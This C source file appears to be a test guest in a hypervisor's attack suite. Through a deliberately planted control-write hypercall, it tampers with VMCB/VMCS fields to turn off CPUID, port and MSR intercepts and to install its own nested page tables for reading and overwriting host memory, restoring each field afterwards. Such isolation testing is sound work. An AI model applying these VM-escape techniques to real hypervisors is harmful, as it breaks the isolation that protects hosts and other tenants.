/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * A10: the guest rewrites its own vCPU's control structure through the planted bug `control`, field
 * after field, each time looks whether it gained anything by it, and puts back what was there. The
 * fields are those of APM volume 2, "Layout of VMCB", and SDM volume 3, "Field Encoding in VMCS".
 *
 * Command line, numbers in decimal:
 *	fields=63	which ones, a bit for each, in the order of the table below
 *	zeros=ADDRESS	three pages of zeros in the machine's memory: maps that permit everything
 *	base=ADDRESS	where this guest's memory begins in the machine's, which must be in a row
 *	peek=ADDRESS	in the machine's memory: 16 bytes to be read
 *	poke=ADDRESS	to be overwritten with 8 bytes
 */
#include "tests/guests/attack/attack.h"

#include "core/lib/fmt.h"
#include "core/lib/string.h"

#define COM2	       0x2f8
#define PCI_ADDRESS    0xcf8
#define PCI_DATA       0xcfc
#define PCI_ENABLE     0x80000000
#define MSR_HSAVE_PA   0xc0010117
#define MSR_VMX_BASIC  0x480
#define CALLING_CARD   "THE ATTACKER WROTE THIS\n"
#define OUTSIDE	       0x40000000ull /* where our own tables show the machine's memory */
#define RAM_TABLES     4	     /* pages of 2 MiB that are our own */
#define POISON	       0x4b4341544b434154ull
#define NOT_APPLICABLE 0

/* Our own nested tables: entries of AMD's form, and of Intel's, which also says the memory type. */
static u64 root[512] __aligned(4096), middle[512] __aligned(4096), low[512] __aligned(4096);

static u64 table_bits(void)
{
	return 7;
}

static u64 leaf_bits(void)
{
	return cpu_is_amd() ? 0xe7 : 0xb7;
}

static u32 build_tables(void)
{
	u64 base = argument_number("base", 0);

	root[0] = (base + (u64)middle) | table_bits();
	middle[0] = (base + (u64)low) | table_bits();
	middle[1] = leaf_bits();
	for (u64 i = 0; i < RAM_TABLES; i++)
		low[i] = (base + i * MIB(2)) | leaf_bits();
	return (u32)(base + (u64)root) | (cpu_is_amd() ? 0 : 0x1e);
}

static u32 zeros(void)
{
	return (u32)argument_number("zeros", 0);
}

static u32 nothing(void)
{
	return 0;
}

/* What was seen. It is printed later: a guest that owns the ports would print past its host. */
static char seen[80];
static u32 bridge; /* what we are shown where the machine has its host bridge */

static u32 read_bridge(void)
{
	out32(PCI_ADDRESS, PCI_ENABLE);
	return in32(PCI_DATA);
}

static bool look_cpuid(void)
{
	struct cpuid mark = cpuid(HYPERCALL_CPUID_LEAF, 0);

	memcpy(seen, &mark.ebx, 12);
	seen[12] = 0;
	return memcmp(seen, HYPERCALL_SIGNATURE, 12) != 0;
}

static bool look_ports(void)
{
	u32 id = read_bridge();

	for (const char *c = CALLING_CARD; *c; c++)
		out8(COM2, (u8)*c);
	fmt_string(seen, sizeof(seen), "%08x", id);
	return id != bridge;
}

static bool look_msr(void)
{
	u32 msr = cpu_is_amd() ? MSR_HSAVE_PA : MSR_VMX_BASIC, value = 0, high;

	TRY("rdmsr", : "=a"(value), "=d"(high) : "c"(msr) : "memory");
	fmt_string(seen, sizeof(seen), "%08x", trap_vector == TRAP_NONE ? value : 0);
	return trap_vector == TRAP_NONE && value;
}

static bool look_memory(void)
{
	volatile u64 *peek = (u64 *)(OUTSIDE + argument_number("peek", 0));
	volatile u64 *poke = (u64 *)(OUTSIDE + argument_number("poke", 0));
	u64 first = peek[0], second = peek[1], mine = poke[0];

	poke[0] = POISON;
	fmt_string(seen, sizeof(seen), "%016lx%016lx", first, second);
	return poke[0] == POISON && (mine != ~0ull || first != ~0ull);
}

/* The CPU does not enter with such a structure: who comes to this line was saved. */
static bool look_alive(void)
{
	fmt_string(seen, sizeof(seen), "alive");
	return false;
}

static const struct tamper {
	const char *name;
	u32 amd, intel; /* offset in the VMCB, field of the VMCS; NOT_APPLICABLE */
	u32 amd_mask, intel_mask;
	u32 (*value)(void);
	bool (*look)(void);
} tampers[] = {
	{ "cpuid", 0x0c, NOT_APPLICABLE, BIT(18), 0, nothing, look_cpuid },
	{ "ports", 0x0c, 0x4002, BIT(27), BIT(24) | BIT(25), nothing, look_ports },
	{ "msrs", 0x0c, 0x2004, BIT(28), ~0u, zeros, look_msr },
	{ "port-map", 0x40, 0x2000, ~0u, ~0u, zeros, look_ports },
	{ "memory", 0xb0, 0x201a, ~0u, ~0u, build_tables, look_memory },
	{ "address-space", 0x58, NOT_APPLICABLE, ~0u, 0, nothing, look_alive },
};

/* True: something was gained. */
static bool tamper(const struct tamper *t)
{
	u32 where = cpu_is_amd() ? t->amd : t->intel;
	u32 mask = cpu_is_amd() ? t->amd_mask : t->intel_mask;
	s64 old;
	bool gained;

	if (where == NOT_APPLICABLE) {
		print("ATTACK A10 step %s: not on this CPU\n", t->name);
		return false;
	}
	old = hypercall(HYPERCALL_VULN_CONTROL_WRITE, where, t->value(), mask);
	if (old < 0) {
		print("ATTACK A10 step %s: write refused %ld\n", t->name, old);
		return false;
	}
	gained = t->look();
	hypercall(HYPERCALL_VULN_CONTROL_WRITE, where, (u32)old, mask);
	print("ATTACK A10 step %s: %s, saw %s\n", t->name, gained ? "gained" : "nothing gained",
		seen);
	return gained;
}

u32 attack_a10(void)
{
	u64 fields = argument_number("fields", BIT(ARRAY_LEN(tampers)) - 1);
	u32 gained = 0;

	bridge = read_bridge();
	for (u32 i = 0; i < ARRAY_LEN(tampers); i++) {
		if (!(fields & BIT(i)))
			continue;
		print("ATTACK A10 step %s tried\n", tampers[i].name);
		gained += tamper(&tampers[i]);
	}
	print("ATTACK A10 outcome %s\n", gained ? "succeeded" : "nothing gained");
	return 0;
}
